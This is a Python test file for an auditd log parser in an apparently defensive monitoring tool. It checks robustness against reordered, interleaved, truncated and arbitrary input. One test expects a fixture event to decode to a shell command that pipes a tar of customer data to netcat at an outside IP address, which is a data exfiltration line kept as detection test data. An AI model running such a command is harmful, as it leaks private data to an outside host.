"""The auditd source under reordering, loss, interleaving, floods and arbitrary bytes.

Whatever arrives, reading never raises, every line is counted once (used in an event, nothing to
use, or skipped), an event is emitted once, and memory stays bounded.
"""

from __future__ import annotations

from pathlib import Path

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tests.robustness import assert_no_parser_bugs, read
from tidewaiter.events import Activity, Event, Kind, RawRef
from tidewaiter.sources import ReadReport, auditd

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "auditd"
LINES = (FIXTURES / "container.log").read_bytes().splitlines(keepends=True)
TAR = LINES[0:7]  # SYSCALL, EXECVE, CWD, PATH, PATH, PROCTITLE, EOE of serial 1001
SH = LINES[28:35]  # the chunked sh -c of serial 1007
SETTINGS = settings(
    max_examples=100, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
SOURCE = auditd.AuditdSource()


def read_bytes(data: bytes) -> tuple[list[Event], ReadReport]:
    return read(SOURCE, data, "mem.log")


def counted_lines(data: bytes) -> int:
    return sum(
        1
        for line in data.split(b"\n")
        if line.strip() and not line.strip().startswith((b"----", b"time->"))
    )


def without_location(event: Event) -> Event:
    return msgspec.structs.replace(event, raw=RawRef("auditd", "mem.log"))


def syscall(serial: int, pid: int, eoe: bool = False) -> bytes:
    line = (
        f"type=SYSCALL msg=audit(1714644000.{serial % 1000:03d}:{serial}): arch=c000003e "
        f'syscall=59 success=yes exit=0 ppid=1 pid={pid} uid=0 comm="sh" exe="/bin/sh"\n'
    ).encode()
    if eoe:
        line += f"type=EOE msg=audit(1714644000.{serial % 1000:03d}:{serial}): \n".encode()
    return line


def login(serial: int) -> bytes:
    return (
        f"type=USER_LOGIN msg=audit(1714644100.000:{serial}): pid=9 uid=0 auid=1000 ses=1 "
        "msg='op=login res=success'\n"
    ).encode()


@SETTINGS
@given(st.permutations(TAR[:-1]))
def test_records_in_any_order_before_eoe_give_the_same_event(order: list[bytes]) -> None:
    reference, _ = read_bytes(b"".join(TAR))
    events, report = read_bytes(b"".join([*order, TAR[-1]]))
    assert [without_location(e) for e in events] == [without_location(e) for e in reference]
    assert (report.records, report.ignored, report.skipped_total) == (7, 0, 0)


@SETTINGS
@given(st.permutations(TAR))
def test_an_early_eoe_still_gives_one_launch_and_counts_every_line(order: list[bytes]) -> None:
    # An EOE before the other records closes what came before it; what comes after is either
    # a new group (when nothing was emitted) or a late record (counted, not emitted twice).
    events, report = read_bytes(b"".join(order))
    assert [(e.kind, e.activity) for e in events] == [(Kind.PROCESS, Activity.LAUNCH)]
    assert report.records == 7
    assert report.skipped_total == 0
    assert 0 < report.records - report.ignored <= 7


@SETTINGS
@given(st.lists(st.sampled_from([0, 1]), min_size=14, max_size=14))
def test_two_events_interleaved_without_eoe(picks: list[int]) -> None:
    # Merge the records of two events in any order, their EOEs dropped.
    queues = [list(TAR[:-1]), list(SH[:-1])]
    merged: list[bytes] = []
    for pick in picks:
        source = queues[pick] or queues[1 - pick]
        if source:
            merged.append(source.pop(0))
    events, report = read_bytes(b"".join(merged))
    assert sorted(e.raw.record_id or "" for e in events) == ["1001", "1007"]
    by_serial = {e.raw.record_id: e for e in events}
    assert by_serial["1001"].process is not None
    assert by_serial["1001"].process.args == ("tar", "-czf", "data.tar.gz", "/srv/customer data")
    assert by_serial["1007"].process is not None
    assert by_serial["1007"].process.args == (
        "sh",
        "-c",
        "tar -C /srv -cf - customer | nc 203.0.113.10 443",
    )
    assert (report.records, report.ignored) == (12, 0)


def test_an_event_without_eoe_closes_after_the_window() -> None:
    decoder = auditd.AuditDecoder(window=64)
    ref = RawRef("auditd", "stream")
    out: list[Event] = []
    out += decoder.feed(TAR[0], ref)  # SYSCALL
    out += decoder.feed(TAR[1], ref)  # EXECVE; no EOE follows
    for serial in range(63):
        out += decoder.feed(login(5000 + serial), ref)
    assert out == []  # 63 records later it may still be completed
    out += decoder.feed(login(6000), ref)
    assert [e.raw.record_id for e in out] == ["1001"]
    assert decoder.pending == 0
    assert decoder.unused == 64


def test_pending_events_are_bounded_and_none_is_lost() -> None:
    decoder = auditd.AuditDecoder(window=10**9, max_pending=100)
    ref = RawRef("auditd", "stream")
    emitted: list[Event] = []
    for serial in range(1, 1001):
        emitted += decoder.feed(syscall(serial, pid=serial), ref)
        assert decoder.pending <= 100
    emitted += decoder.flush()
    assert [e.process.pid for e in emitted if e.process] == list(range(1, 1001))


def test_a_late_record_is_not_a_second_event() -> None:
    late = TAR[1]  # the EXECVE again, after the event's EOE
    events, report = read_bytes(b"".join(TAR) + late)
    assert len(events) == 1
    assert (report.records, report.ignored) == (8, 1)


def test_a_serial_reused_after_a_reboot_is_another_event() -> None:
    # Serials restart at boot: the time written with the serial tells the events apart.
    rebooted = [line.replace(b"1714644000.123:1001", b"1714700000.010:1001") for line in TAR]
    events, _ = read_bytes(b"".join(TAR + rebooted))
    assert [(e.time, e.raw.record_id) for e in events] == [
        (1714644000.123, "1001"),
        (1714700000.01, "1001"),
    ]


def test_an_event_that_fails_to_build_is_reported_and_reading_goes_on(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    build = auditd._events

    def broken(group: auditd._Group) -> list[Event]:
        if group.ref.record_id == "1001":
            raise ValueError("boom")
        return build(group)

    monkeypatch.setattr(auditd, "_events", broken)
    events, report = read_bytes(b"".join(TAR + SH))
    assert [e.raw.record_id for e in events] == ["1007"]
    assert report.skipped == {"unreadable event (ValueError: boom)": 1}
    assert [p.where for p in report.examples] == ["line 1"]
    # Every line still counted once: 1 skipped, 6 nothing to use, 7 used by the sh event.
    assert (report.records, report.ignored, report.skipped_total) == (14, 6, 1)


def test_records_with_nothing_to_use_do_not_hold_memory() -> None:
    decoder = auditd.AuditDecoder()
    for serial in range(20_000):
        decoder.feed(login(serial), RawRef("auditd", "stream"))
    assert decoder.pending == 0


def test_input_cut_in_the_middle_of_an_event() -> None:
    events, report = read_bytes(b"".join(TAR[:3]))  # SYSCALL, EXECVE, CWD and then nothing
    [event] = events
    assert event.process is not None
    assert event.process.cwd == "/tmp"
    assert (report.records, report.events, report.ignored) == (3, 1, 0)


def test_crlf_line_ends_read_the_same() -> None:
    unix, _ = read_bytes(b"".join(LINES))
    windows, _ = read_bytes(b"".join(line.rstrip(b"\n") + b"\r\n" for line in LINES))
    assert windows == unix


def test_an_overlong_line_is_skipped_alone() -> None:
    huge = b'type=EXECVE msg=audit(1.1:9): argc=1 a0="' + b"x" * (2 << 20) + b'"\n'
    events, report = read_bytes(huge + b"".join(TAR))
    assert len(events) == 1
    assert report.skipped == {"line longer than 1 MiB": 1}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('"plain"', b"plain"),
        ("2F746D702F6120622063", b"/tmp/a b c"),
        ("(null)", None),
        ("?", None),
        ('""', b""),
        ("ABC", b"ABC"),  # odd length: not hex, kept as written
        ('"unterminated', b"unterminated"),
    ],
)
def test_field_encodings(value: str, expected: bytes | None) -> None:
    assert auditd._decode(value) == expected


@SETTINGS
@given(st.binary(max_size=64))
def test_any_sockaddr_bytes_decode_or_give_nothing(raw: bytes) -> None:
    family, endpoint = auditd._sockaddr(raw.hex().upper())
    if endpoint is not None:
        assert family in (2, 10)
        assert endpoint.port is not None
        assert 0 <= endpoint.port <= 65535


FIELDS = [
    "syscall", "arch", "success", "exit", "pid", "exe", "a0", "a1", "a0_len", "a0[0]", "argc",
    "cwd", "name", "nametype", "saddr", "proctitle", "item", "cgroup",
]  # fmt: skip
_FIELD_TEXT = st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\n\r"), max_size=40)
_RECORD = st.builds(
    lambda kind, serial, body: f"type={kind} msg=audit(1714644000.1:{serial}): {body}\n".encode(),
    st.sampled_from(["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE", "SOCKADDR", "EOE", "LOGIN"]),
    st.integers(min_value=1, max_value=5),
    st.lists(
        st.builds(
            "{}={}".format,
            st.sampled_from(FIELDS),
            st.one_of(_FIELD_TEXT, st.from_regex(r"[0-9A-F]{0,40}", fullmatch=True)),
        ),
        max_size=8,
    ).map(" ".join),
)


@SETTINGS
@given(st.lists(st.one_of(_RECORD, st.binary(max_size=80).map(lambda b: b + b"\n")), max_size=40))
def test_arbitrary_input_never_raises_and_every_line_is_counted(lines: list[bytes]) -> None:
    data = b"".join(lines)
    events, report = read_bytes(data)
    assert report.records == counted_lines(data)
    assert report.events == len(events)
    used = report.records - report.ignored - report.skipped_total
    assert used >= 0
    assert used > 0 or not events
    assert_no_parser_bugs(report)
